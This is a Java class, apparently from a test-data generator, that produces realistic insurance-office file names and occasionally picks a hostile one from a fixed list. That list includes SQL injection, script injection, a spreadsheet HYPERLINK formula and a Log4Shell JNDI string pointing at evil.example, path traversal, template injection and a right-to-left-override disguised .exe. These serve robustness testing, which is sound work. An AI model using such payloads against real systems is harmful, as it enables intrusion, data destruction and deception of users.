package io.cordon.datagen.stock;

import io.cordon.datagen.random.Dice;
import java.util.List;

/** Invents file names: believable ones, and now and then one that is out to break its reader. */
public final class FileNames {
  private static final double HOSTILE_SHARE = 1.0 / 80;

  private static final List<String> SUBJECTS =
      List.of(
          "Claims triage",
          "Flood portfolio",
          "Motor renewal",
          "Reinsurance treaty",
          "Broker commission",
          "Solvency",
          "Actuarial reserve",
          "Household tariff",
          "Fraud review",
          "Payroll",
          "Works council",
          "Storm Hilda losses",
          "Policy wording",
          "Customer churn",
          "Data centre move",
          "Audit committee",
          "Marine cargo",
          "Call centre",
          "Pension scheme",
          "Subrogation",
          "Underwriting guide",
          "Fleet discount",
          "Legal expenses",
          "Office lease",
          "Travel cover",
          "Loss adjuster panel",
          "Premium finance",
          "Complaints");
  private static final List<String> KINDS =
      List.of(
          "forecast",
          "minutes",
          "model",
          "summary",
          "contract",
          "draft",
          "checklist",
          "report",
          "handover",
          "budget",
          "presentation",
          "analysis",
          "list",
          "plan",
          "offer",
          "memo");
  private static final List<String> PERIODS =
      List.of("", " 2025", " 2026", " Q1", " Q2", " Q3", " Q4", " v2", " v3 final", " (copy)");
  private static final List<String> EXTENSIONS =
      List.of("docx", "docx", "xlsx", "xlsx", "pdf", "pdf", "pptx", "csv", "msg", "zip", "txt");
  private static final List<String> HOSTILE =
      List.of(
          "Angebot \"Fährhafen\" – Überprüfung ß.docx",
          "保険金請求 2026 最終.xlsx",
          "Премия и резервы.pdf",
          "O'Leary; DROP TABLE claims;--.docx",
          "<script>alert('claims')</script>.html",
          "=HYPERLINK(\"https://evil.example/\",\"open\").csv",
          "${jndi:ldap://evil.example/a}.txt",
          "..\\..\\windows\\win.ini",
          "100% {{7*7}} #frag?q=1&x.docx",
          "\uD83D\uDD12 سري.pdf",
          "invoice\u202Excod.exe",
          "tab\tand\u0001control.txt",
          "Zusammenfassung ".repeat(15) + "Ende.docx");

  private FileNames() {}

  public static String next(Dice dice) {
    if (dice.chance(HOSTILE_SHARE)) {
      return dice.pick(HOSTILE);
    }
    return dice.pick(SUBJECTS)
        + ' '
        + dice.pick(KINDS)
        + dice.pick(PERIODS)
        + '.'
        + dice.pick(EXTENSIONS);
  }

  /** What stands behind the last dot; empty where there is none. */
  public static String extension(String name) {
    int dot = name.lastIndexOf('.');
    return dot < 0 ? "" : name.substring(dot + 1);
  }
}
